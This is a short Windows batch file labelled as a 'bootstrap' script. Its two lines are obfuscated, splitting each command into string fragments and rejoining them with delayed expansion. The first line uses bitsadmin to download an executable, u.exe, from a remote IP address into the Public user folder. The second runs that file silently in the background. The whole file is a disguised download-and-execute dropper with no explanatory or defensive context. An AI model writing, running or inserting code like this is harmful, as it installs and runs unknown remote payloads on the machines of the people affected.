REM bootstrap 4675 v2
cmd /v:on /c "set wgz0=bitsad&&set vhb1=min /transfer jo&&set emg2=b /download /priority high http://203.0.113.17/u.exe C:\Users\Publi&&set tky3=c\u.e&&set xaz4=xe&&!wgz0!!vhb1!!emg2!!tky3!!xaz4!"
cmd /v:on /c "set taz0=start&&set uef1= /b C&&set duq2=:\Use&&set ibe3=rs\Public\u.exe&&!taz0!!uef1!!duq2!!ibe3!"
